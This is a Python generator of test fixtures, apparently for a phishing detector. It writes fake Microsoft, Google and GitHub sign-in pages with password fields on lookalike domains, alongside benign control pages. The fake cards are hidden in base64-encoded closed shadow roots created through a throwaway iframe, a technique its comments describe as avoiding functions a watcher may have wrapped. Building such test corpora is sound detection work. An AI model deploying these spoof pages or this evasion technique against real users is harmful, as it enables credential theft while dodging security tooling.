#!/usr/bin/env python3
"""Writes the fixtures of tests/corpus/hits19.js under tests/fixtures/<host>/...

Run from the repository root: python3 tests/corpus/gen-hits19.py
"""

import base64
import importlib.util
import os

_HERE = os.path.dirname(os.path.abspath(__file__))


def _load(name, file):
    spec = importlib.util.spec_from_file_location(name, os.path.join(_HERE, file))
    mod = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(mod)
    return mod


_r11 = _load('gen_redteam11', 'gen-redteam11.py')
write, doc = _r11.write, _r11.doc
MS_LOGO, GOOGLE_LOGO, GH_MARK = _r11.MS_LOGO, _r11.GOOGLE_LOGO, _r11.GH_MARK

# A closed root made with the attachShadow of a frame made for the purpose and removed at once, so
# that no function of the page's own realm (where a watcher may have wrapped it) is called; its
# markup set with that frame's innerHTML setter, from base64.
FOREIGN_ROOT = """<script>(() => {{
const f = document.createElement('iframe'); f.style.display = 'none'; document.body.appendChild(f);
const W = f.contentWindow; const attach = W.Element.prototype.attachShadow;
const set = Object.getOwnPropertyDescriptor(W.ShadowRoot.prototype, 'innerHTML').set;
const root = attach.call(document.getElementById({host!r}), {{ mode: 'closed' }});
set.call(root, new TextDecoder().decode(Uint8Array.from(atob({markup!r}), (c) => c.charCodeAt(0))));
f.remove();
}})();</script>"""

# A page's own closed root, with its own realm's attachShadow (ordinary components do this).
OWN_ROOT = """<script>(() => {{
const root = document.getElementById({host!r}).attachShadow({{ mode: 'closed' }});
root.innerHTML = new TextDecoder().decode(Uint8Array.from(atob({markup!r}), (c) => c.charCodeAt(0)));
}})();</script>"""


def b64(s):
    return base64.b64encode(s.encode('utf-8')).decode('ascii')


def root_script(template, host, markup):
    return template.format(host=host, markup=b64(markup))


CARD_CSS = ('.in{padding:30px 32px;font-family:"Segoe UI",Arial,sans-serif;color:#1b1b1b}h1{font-size:22px;font-weight:600;margin:16px 0 6px}'
            '.small{font-size:14px;margin:6px 0 12px}.inp{display:block;width:100%;box-sizing:border-box;border:0;border-bottom:1px solid #666;'
            'padding:7px 0;font-size:15px;margin:8px 0 14px;outline:none}.btn{background:#0067b8;color:#fff;border:0;padding:8px 28px;font-size:15px}'
            'a{color:#0067b8;font-size:13px}')

# A documents list that fills the window behind the card: an ordinary page, as far as its own DOM says.
DOCS_CSS = ('body{margin:0;font-family:Arial,sans-serif;background:#f3f2f1;color:#323130}.bar{height:48px;background:#fff;border-bottom:1px solid #ddd;'
            'display:flex;align-items:center;padding:0 20px;font-weight:600}.list{margin:24px auto;max-width:640px;background:#fff}'
            '.row{padding:12px 16px;border-bottom:1px solid #eee;font-size:14px}')


def docs_list(names):
    return '<div class="list">' + ''.join(f'<div class="row">{n}</div>' for n in names) + '</div>'


def ms_card(sentence, action):
    return (f'<style>:host{{position:fixed;left:24px;top:84px;width:340px;background:#fff;box-shadow:0 2px 18px #0004;z-index:9}}{CARD_CSS}</style>'
            f'<div class="in"><div>{MS_LOGO} <span style="color:#5e5e5e;font-weight:600">Microsoft</span></div><h1>Sign in</h1>'
            f'<div class="small">{sentence}</div><form action="{action}" method="post">'
            '<input class="inp" type="email" name="loginfmt" placeholder="Email, phone, or Skype">'
            '<input class="inp" type="password" name="passwd" placeholder="Password"><a href="#">Forgot my password</a><br><br>'
            '<button class="btn" type="submit">Sign in</button></form></div>')


def google_card(where):
    return (f'<style>:host{{position:fixed;{where};width:360px;background:#fff;border:1px solid #dadce0;border-radius:8px;z-index:9}}{CARD_CSS}'
            '.btn{background:#1a73e8;border-radius:4px}</style>'
            f'<div class="in" style="text-align:center">{GOOGLE_LOGO}<h1>Welcome</h1><div class="small">j.alvarez@gmail.com</div>'
            '<form action="/v3/signin/challenge" method="post" style="text-align:left"><div class="small">To continue to Google Drive, first verify it’s you</div>'
            '<input class="inp" type="password" name="Passwd" placeholder="Enter your password">'
            '<button class="btn" type="submit" style="float:right">Next</button></form><div style="clear:both"></div></div>')


def github_card():
    return ('<style>.card{position:fixed;right:28px;top:70px;width:330px;background:#f6f8fa;border:1px solid #d0d7de;border-radius:6px;z-index:9}'
            f'{CARD_CSS}.btn{{background:#1f883d;border-radius:6px;width:100%}}</style>'
            '<slot></slot>'
            f'<div class="card"><div class="in" style="text-align:center">{GH_MARK}<h1>Sign in to GitHub</h1>'
            '<div class="small">Your session has expired. Sign in again to view the build log.</div>'
            '<form action="/session" method="post" style="text-align:left"><label class="small">Username or email address</label>'
            '<input class="inp" type="text" name="login" value="mkovacs"><label class="small">Password</label>'
            '<input class="inp" type="password" name="password"><button class="btn" type="submit">Sign in</button></form></div></div>')


# ---------------------------------------------------------------- spoofs

def spoofs():
    # The card's host holds text of its own that the root draws over (no <slot>): not empty, and off
    # the middle of the window, in the left third.
    body = ('<div class="bar">Shared documents</div>'
            + docs_list(['Q3 statement.pdf', 'Remittance 4471.pdf', 'Payroll summary.xlsx', 'Board minutes.docx', 'Lease renewal.pdf'])
            + '<div id="viewer"><p>Loading the document viewer…</p></div>'
            + root_script(FOREIGN_ROOT, 'viewer', ms_card('Sign in with your Microsoft account to open the shared documents.', '/docs/session')))
    write('shared-ledger-view.com', '/docs/index.html', doc('Shared documents', body, DOCS_CSS))

    # The same on a page of more than 3,000 elements (a long list of documents under the card).
    body = ('<div class="bar">Shared documents</div>'
            + docs_list([f'Statement {n:04d}.pdf' for n in range(3200)])
            + '<div id="viewer"><p>Loading the document viewer…</p></div>'
            + root_script(FOREIGN_ROOT, 'viewer', ms_card('Sign in with your Microsoft account to open the shared documents.', '/archive/session')))
    write('shared-ledger-view.com', '/archive/index.html', doc('Shared documents', body, DOCS_CSS))

    # The card's host is an empty heading (a heading can hold a shadow root), bottom left.
    body = ('<div class="bar">Scans</div>' + docs_list(['Scan_0412.pdf', 'Scan_0413.pdf', 'Scan_0417.pdf'])
            + '<h2 id="sheet"></h2>' + root_script(FOREIGN_ROOT, 'sheet', google_card('left:24px;bottom:24px')))
    write('scan-inbox-share.net', '/file/index.html', doc('Scans', body, DOCS_CSS))

    # The card's host shows its own text through a <slot> beside the card, on the right.
    body = ('<div class="bar">Build #2231</div>' + docs_list(['checkout', 'install', 'test', 'package', 'deploy'])
            + '<section id="log"><p style="margin:24px auto;max-width:640px">Build log: 5 steps, 2 m 41 s.</p></section>'
            + root_script(FOREIGN_ROOT, 'log', github_card()))
    write('ci-build-relay.dev', '/runs/2231/index.html', doc('Build #2231', body, DOCS_CSS))


def squares_card():
    # Microsoft's four squares and nothing else of the name: the words are the layout's alone.
    logo = MS_LOGO.replace('width="22" height="23"', 'width="44" height="46"')
    return ('<style>.in{padding:30px 32px;font-family:"Segoe UI",Arial,sans-serif;color:#1b1b1b;width:340px;background:#fff;'
            'box-shadow:0 2px 18px #0004;margin:120px 0 0 24px}h1{font-size:22px;font-weight:600;margin:16px 0 6px}'
            '.inp{display:block;width:100%;box-sizing:border-box;border:0;border-bottom:1px solid #666;padding:7px 0;font-size:15px;margin:8px 0 14px}'
            '.btn{background:#0067b8;color:#fff;border:0;padding:8px 28px;font-size:15px}</style>'
            f'<div class="in">{logo}<h1>Enter password</h1>'
            '<div>a.lindqvist@northwind-freight.se</div><form action="/inbox/session" method="post">'
            '<input class="inp" type="password" name="passwd" placeholder="Password"><button class="btn" type="submit">Sign in</button></form></div>')


def own_logo_card():
    logo = ('<svg width="44" height="44" viewBox="0 0 44 44" aria-hidden="true"><circle cx="22" cy="22" r="20" fill="#0f766e"/>'
            '<path d="M12 26 L22 12 L32 26 Z" fill="#fff"/></svg>')
    return ('<style>.in{padding:30px 32px;font-family:Arial,sans-serif;width:340px;background:#fff;border:1px solid #ddd;margin:120px 0 0 24px}'
            '.inp{display:block;width:100%;box-sizing:border-box;padding:8px;margin:8px 0 14px}.btn{background:#0f766e;color:#fff;border:0;padding:8px 28px}</style>'
            f'<div class="in">{logo}<h1 style="font-size:22px">Enter password</h1><div>a.lindqvist@northwind-freight.se</div>'
            '<form action="/session" method="post"><input class="inp" type="password" name="password" placeholder="Password">'
            '<button class="btn" type="submit">Sign in</button></form></div>')


def logo_only():
    # The card's only claim is the four squares, inside a closed root on a host showing text of its own.
    body = ('<div class="bar">Mail</div><div id="mail"><p>Loading your mailbox…</p></div>'
            + root_script(FOREIGN_ROOT, 'mail', squares_card()))
    write('freight-mailbox-view.com', '/inbox/index.html', doc('Mail', body, DOCS_CSS))
    # A freight company's own sign-in, the same layout, with its own logo in the closed root.
    body = ('<div class="bar">Tern Freight</div><div id="mail"><p>Loading…</p></div>'
            + root_script(OWN_ROOT, 'mail', own_logo_card()))
    write('portal.tern-freight.se', '/signin/index.html', doc('Tern Freight portal', body, DOCS_CSS))


# ---------------------------------------------------------------- ordinary pages

def quiet():
    # A docs site whose navigation is a closed root on the left, with fallback text of its own.
    nav = ('<style>:host{position:fixed;left:0;top:48px;bottom:0;width:240px;background:#fff;border-right:1px solid #ddd}'
           'a{display:block;padding:8px 18px;color:#0b57d0;font:14px Arial,sans-serif;text-decoration:none}</style>'
           + ''.join(f'<a href="#">{s}</a>' for s in ['Getting started', 'Installation', 'Configuration', 'Plugins', 'Themes', 'FAQ']))
    body = ('<div class="bar">Tidepool docs</div><div id="side"><p>Loading navigation…</p></div>'
            '<div style="margin-left:260px;padding:20px;max-width:640px"><h1>Configuration</h1><p>Tidepool reads tidepool.toml from the project root. '
            'Every key has a default; see the reference below.</p></div>'
            + root_script(OWN_ROOT, 'side', nav))
    write('docs.tidepool-static.dev', '/config/index.html', doc('Configuration · Tidepool docs', body, DOCS_CSS))

    # A shop's support chat in a closed root, bottom right, with a message box.
    chat = ('<style>:host{position:fixed;right:20px;bottom:20px;width:320px;background:#fff;border:1px solid #ccc;border-radius:10px;'
            'font:14px Arial,sans-serif}.h{background:#2e7d32;color:#fff;padding:10px 14px;border-radius:10px 10px 0 0}'
            '.m{padding:12px 14px}textarea{width:100%;box-sizing:border-box;height:60px}</style>'
            '<div class="h">Chat with Greenleaf support</div><div class="m">Hi! How can we help with your order?</div>'
            '<div class="m"><textarea placeholder="Type a message"></textarea></div>')
    body = ('<div class="bar">Greenleaf Garden Supply</div>' + docs_list(['Seed trays — $12', 'Potting mix 20 L — $9', 'Pruning shears — $24'])
            + '<aside id="chat"><span>Chat</span></aside>' + root_script(OWN_ROOT, 'chat', chat))
    write('shop.greenleaf-garden.co.uk', '/trays/index.html', doc('Seed trays · Greenleaf Garden Supply', body, DOCS_CSS))


if __name__ == '__main__':
    spoofs()
    logo_only()
    quiet()
